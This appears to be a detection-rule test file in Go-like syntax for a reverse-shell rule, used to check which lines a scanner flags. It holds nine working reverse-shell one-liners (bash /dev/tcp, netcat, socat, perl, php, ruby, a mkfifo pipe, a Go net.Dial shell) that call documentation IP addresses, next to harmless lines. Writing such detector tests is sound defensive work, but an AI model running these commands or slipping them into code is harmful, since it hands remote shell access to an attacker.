package main

func main() {
	// ruleid: any.proc.reverse_shell
	exec.Command("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").Run()
	// ruleid: any.proc.reverse_shell
	system("nc -e /bin/sh 198.51.100.2 9001")
	// ruleid: any.proc.reverse_shell
	run("socat tcp:203.0.113.9:4444 exec:sh,pty,stderr")
	// ruleid: any.proc.reverse_shell
	perl := `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`
	// ruleid: any.proc.reverse_shell
	php := `php -r '$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`
	// ruleid: any.proc.reverse_shell
	ruby := `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`
	// ruleid: any.proc.reverse_shell
	fifo := "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"
	// ruleid: any.proc.reverse_shell
	c, _ := net.Dial("tcp", "203.0.113.7:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c
	// ruleid: any.proc.reverse_shell
	rb := `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",443);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`
	// ok: any.proc.reverse_shell
	quiet := `perl -e 'open(STDOUT, ">&STDERR"); print "moved\n"'`
	// ok: any.proc.reverse_shell
	key := "ssh -i ~/.ssh/deploy host"
	// ok: any.proc.reverse_shell
	conn, _ := net.Dial("tcp", "example.com:80")
	// ok: any.proc.reverse_shell
	fmt.Println("nc -z localhost 80")
}
